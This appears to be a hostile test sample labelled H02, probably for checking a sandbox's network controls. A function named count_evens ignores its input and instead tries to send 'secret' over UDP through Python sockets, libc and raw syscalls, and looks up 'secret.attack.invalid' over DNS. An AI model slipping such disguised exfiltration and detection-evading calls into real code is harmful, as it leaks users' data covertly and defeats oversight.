"""H02: sends what it knows by UDP, and asks for names, by which secrets go far."""

# %% count_evens
import ctypes, socket, struct

libc = ctypes.CDLL(None, use_errno=True)
address = struct.pack("=H", 2) + struct.pack("!H", UDP) + bytes([127, 0, 0, 1]) + bytes(8)


def count_evens(numbers):
    for way in (
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", UDP)),
        lambda: libc.sendto(libc.socket(2, 2, 0), b"bare", 4, 0, address, 16),
        lambda: libc.syscall(44, libc.syscall(41, 2, 2, 17), b"bare", 4, 0, address, 16),
        lambda: socket.getaddrinfo("secret.attack.invalid", 80),
        lambda: socket.gethostbyname("secret.attack.invalid"),
        lambda: libc.gethostbyname(b"localhost"),
    ):
        try:
            print(way())
        except OSError as error:
            print(error)
    return -1
